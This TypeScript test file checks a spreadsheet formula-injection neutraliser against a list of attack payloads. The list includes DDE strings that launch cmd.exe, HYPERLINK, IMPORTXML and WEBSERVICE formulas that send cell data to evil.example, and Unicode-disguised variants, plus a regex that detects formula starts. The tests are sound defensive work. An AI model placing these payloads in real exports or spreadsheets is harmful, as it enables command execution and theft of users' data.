import { expect, test } from 'vitest';
import { neutralise, neutraliseNumber } from './neutralise.ts';

/** As they are tried against exports of such programs: formulas, commands, links that carry data away, and disguises. */
const attacks = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  `=cmd|' /C calc'!A0`,
  `+cmd|' /C calc'!A0`,
  `-2+3+cmd|' /C calc'!A0`,
  `@SUM(1+9)*cmd|' /C calc'!A0`,
  '=HYPERLINK("https://evil.example/?"&A1,"click")',
  '=IMPORTXML(CONCAT("https://evil.example/?",A1),"//a")',
  '=WEBSERVICE("https://evil.example/"&A1)',
  '=DDE("cmd";"/C calc";"!A0")',
  `=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''`,
  ' =1+1',
  '   +1+1',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\r\n=1+1',
  '\u00a0=1+1',
  '\u2003=1+1',
  '\u3000=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '\u0000=1+1',
  '\u202e=1+1',
  ' \t\u200b =1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  '﹦1+1',
  '﹢1+1',
  '﹣1+1',
  '﹫SUM(1)',
  '−1+1',
];

/** The beginnings of cells, for programs that part them by commas, semicolons or tabs, or do not know quotes. */
function cellStarts(text: string): string[] {
  return text.split(/[;\t\r\n]/);
}

const looksLikeFormula = /^[\p{White_Space}\p{C}\p{Z}]*[=+\-@＝＋－＠﹦﹢﹣﹫−]/u;

test.each(attacks)('%j begins no formula, neither alone nor behind a separator', (attack) => {
  for (const text of [
    attack,
    `x;${attack}`,
    `x\t${attack}`,
    `x\n${attack}`,
    `";${attack}`,
    `x\r\n;${attack}`,
  ]) {
    const neutral = neutralise(text);
    expect(neutral).not.toMatch(looksLikeFormula);
    for (const start of cellStarts(neutral))
      expect(start, JSON.stringify(neutral)).not.toMatch(looksLikeFormula);
    // Nothing is lost, and only apostrophes are added.
    expect(neutral.replaceAll(`'`, '')).toBe(text.replaceAll(`'`, ''));
  }
});

test.each(['\t', '\tx', '\rx', '\n'])('%j does not begin with what programs cut off', (text) => {
  expect(neutralise(text)).toBe(`'${text}`);
});

test.each([
  '',
  'Rappeler lundi',
  'À rappeler - urgent',
  'a=b',
  'ada@example.org',
  '3 + 4 = 7',
  'x, -5',
  `l’œuvre d'Ada`,
  '1-2',
])('%j stays as it is', (text) => {
  expect(neutralise(text)).toBe(text);
});

test('a telephone number stays readable, and whatever is none is made harmless', () => {
  expect(neutraliseNumber('+33612345678')).toBe('+33612345678');
  expect(neutraliseNumber('anonymous')).toBe('anonymous');
  for (const text of ['+33612345678+1', '+', '+0123', '+1=1', '+33 6', `+33612345678\n=1`, '=33612345678'])
    expect(neutraliseNumber(text)).not.toMatch(looksLikeFormula);
});
